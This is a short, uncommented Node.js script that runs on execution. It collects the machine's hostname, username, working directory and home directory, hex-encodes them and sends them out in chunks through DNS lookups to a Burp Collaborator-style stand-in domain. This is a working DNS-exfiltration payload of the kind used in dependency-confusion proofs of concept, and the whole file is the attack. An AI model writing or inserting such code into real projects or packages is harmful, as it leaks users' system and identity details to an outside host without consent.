const os = require("os");
const dns = require("dns");

const SUFFIX = "x7k2.burpcollaborator.example.invalid";

function collect() {
  return [os.hostname(), os.userInfo().username, process.cwd(), os.homedir()].join("|");
}

function send(text) {
  const hex = Buffer.from(text).toString("hex");
  const parts = hex.match(/.{1,60}/g);
  parts.forEach((part, i) => {
    dns.lookup(`${i}.${part}.${SUFFIX}`, () => {});
  });
}

send(collect());
